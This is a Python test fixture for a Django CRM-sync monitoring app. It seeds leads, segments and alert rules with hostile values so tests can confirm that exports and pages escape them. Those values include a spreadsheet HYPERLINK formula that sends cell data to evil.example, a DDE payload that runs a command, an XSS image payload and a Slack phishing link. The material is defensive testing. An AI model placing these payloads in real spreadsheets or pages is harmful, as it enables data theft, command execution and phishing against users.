"""The hostile row set of the security tests: text a CRM user or an API could make the sync write.

Every value is one an attacker controls from outside the portal (lead name, company, source,
segment name, error message) or an operator could type (rule and channel names). The exports,
pages and messages must carry each one as inert text.
"""
from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import timedelta

from django.utils import timezone
from openpyxl import load_workbook

from monitoring.choices import HistoryDirection, HistoryStatus, LeadSyncStatus, RuleKind, SyncType
from monitoring.models import AlertRule, CustomerSegment, Lead, LeadSyncHistory

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"y")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1)"
MINUS = "-2+3"
CONTROL = "ctl\x01\x07\x0b\x1fend"
SLACK = "<!channel> <!here> <https://evil.example/phish|Click to fix>"
TAB = "\t=1+1"
CR = "\r=1+1"
HOSTILE = (FORMULA, DDE, AT_SUM, MINUS, CONTROL, TAB, CR)
XSS = '<img src=x onerror="alert(1)">'  # pages: must arrive escaped

# What each hostile value must read as in a CSV or XLSX cell.
INERT = {
    FORMULA: "'" + FORMULA,
    DDE: "'" + DDE,
    AT_SUM: "'" + AT_SUM,
    MINUS: "'" + MINUS,
    CONTROL: "ctl\\x01\\x07\\x0b\\x1fend",
    TAB: "'" + TAB,
    CR: "'" + CR,
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class HostileRows:
    leads: list[Lead]
    segment: CustomerSegment
    rule: AlertRule


def hostile_rows() -> HostileRows:
    """Seven leads in error (one per hostile value, each > 5 errors so the high-error alert lists
    them), a failed attempt with each value as its error message, a hostile segment, and the
    high-error rule renamed to a formula and firing."""
    now = timezone.now()
    segment = CustomerSegment.objects.create(segment_name=FORMULA, description=AT_SUM)
    leads = []
    for index, value in enumerate(HOSTILE):
        lead = Lead.objects.create(
            first_name=value, last_name=CONTROL if index % 2 else DDE, company_name=value,
            email=f"hostile{index}@example.com", lead_source=MINUS, segment=segment,
            job_title=AT_SUM, sync_status=LeadSyncStatus.ERROR, sync_error_count=7 + index,
            sync_error_message=value, last_synced_at=now - timedelta(minutes=5 + index),
            twenty_id=f"tw-hostile-{index}",
        )
        LeadSyncHistory.objects.create(
            lead=lead, sync_type=SyncType.WEBHOOK_UPDATE, sync_direction=HistoryDirection.TWENTY_TO_SUPABASE,
            sync_status=HistoryStatus.ERROR, error_message=value,
            created_at=now - timedelta(minutes=5 + index, seconds=2), synced_at=now - timedelta(minutes=5 + index),
        )
        leads.append(lead)
    xss = Lead.objects.create(
        first_name=XSS, last_name=SLACK, company_name=XSS, email="xss@example.com", segment=segment,
        sync_status=LeadSyncStatus.ERROR, sync_error_count=20, sync_error_message=XSS, last_synced_at=now,
    )
    LeadSyncHistory.objects.create(
        lead=xss, sync_type=SyncType.RETRY, sync_direction=HistoryDirection.SUPABASE_TO_TWENTY,
        sync_status=HistoryStatus.ERROR, error_message=XSS, created_at=now - timedelta(seconds=1), synced_at=now,
    )
    leads.append(xss)
    rule = AlertRule.objects.filter(kind=RuleKind.HIGH_ERROR_LEADS).order_by("pk").first()
    AlertRule.objects.exclude(pk=rule.pk).update(enabled=False)
    rule.name, rule.consecutive_checks, rule.enabled = FORMULA, 1, True
    rule.save()
    return HostileRows(leads, segment, rule)


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def xlsx_cells(content: bytes) -> list[tuple[str, object]]:
    """(data_type, value) of every non-empty cell; data_type 'f' would be a live formula."""
    book = load_workbook(io.BytesIO(content))
    return [(cell.data_type, cell.value) for sheet in book for row in sheet.iter_rows() for cell in row
            if cell.value is not None]
